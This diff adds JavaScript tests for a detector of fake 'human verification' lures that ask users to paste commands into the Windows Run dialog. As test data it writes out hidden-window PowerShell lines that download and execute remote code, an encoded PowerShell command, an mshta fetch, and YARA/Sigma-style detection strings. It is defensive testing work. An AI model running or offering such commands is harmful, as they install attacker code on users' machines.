@@ -181,3 +181,40 @@ test('instructions are found in a long text as in a short one, whatever word the
     assert.ok(opensWindow(`${'word '.repeat(10_000)}${text}${' word'.repeat(200)}`), text)
   }
 })
+
+const CODED = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'
+
+test('who reports an attack or looks for it quotes commands that do nothing', () => {
+  for (const text of [
+    'The page showed a false human check, put a line on the clipboard and asked her to press Windows + R and Ctrl + V.\npowershell -w hidden -c "iwr http://203.0.113.5/a|iex"',
+    `Human verification on the page named Win+R, then paste. Second stage:\npowershell -w hidden -enc ${CODED.slice(0, 40)}... (cut)`,
+    'Seen in the key of the Run dialog (Win + R, Ctrl + V, "I am not a robot"): a[.]example, value "powershell -w hidden ..."',
+    'rule Lure {\n  strings:\n    $a = "Win + R"\n    $b = "not a robot"\n    $c = "Ctrl + V to paste"\n    $d = "powershell -w hidden" ascii wide\n    $e = "mshta http" ascii wide\n}',
+    "selection:\n  - 'not a robot'\n  - 'Win + R, paste'\n  - 'DownloadString('\n  - '| iex'\n  - 'powershell -w hidden -enc '",
+  ])
+    assert.equal(pastedCommand(text), null, text)
+})
+
+test('a page of help with a choice of ways to install names what may fail', () => {
+  const steps = 'Open a terminal and paste:\ncurl -fsSL https://get.example.com | sh\n'
+  const failing = 'If the file cannot be opened, update the certificate. Fix the problem as follows.\n'
+  const choice = 'brew install example\nwinget install --id Example.Example\n'
+  assert.notEqual(pastedCommand(steps + failing), null)
+  assert.equal(pastedCommand(steps + failing + choice), null)
+  const gatekeeper = '"Example" cannot be opened because the developer cannot be verified.\n'
+  assert.equal(pastedCommand(steps + gatekeeper), null)
+  assert.notEqual(
+    pastedCommand(steps + failing + choice, () => steps + failing),
+    null,
+  )
+})
+
+test('but a command that acts is one, whatever stands beside it', () => {
+  for (const command of [
+    'powershell -w hidden -c "iwr http://203.0.113.5/a|iex" # Verifying abcdefghijklmnopqrstu...',
+    `powershell -w hidden -enc ${CODED}`,
+    '"powershell" -w hidden -c "irm cdn.example/a|iex"',
+    'mshta cdn.example/verify',
+  ])
+    assert.notEqual(pastedCommand(`${LURE}\n${command}`), null, command)
+})
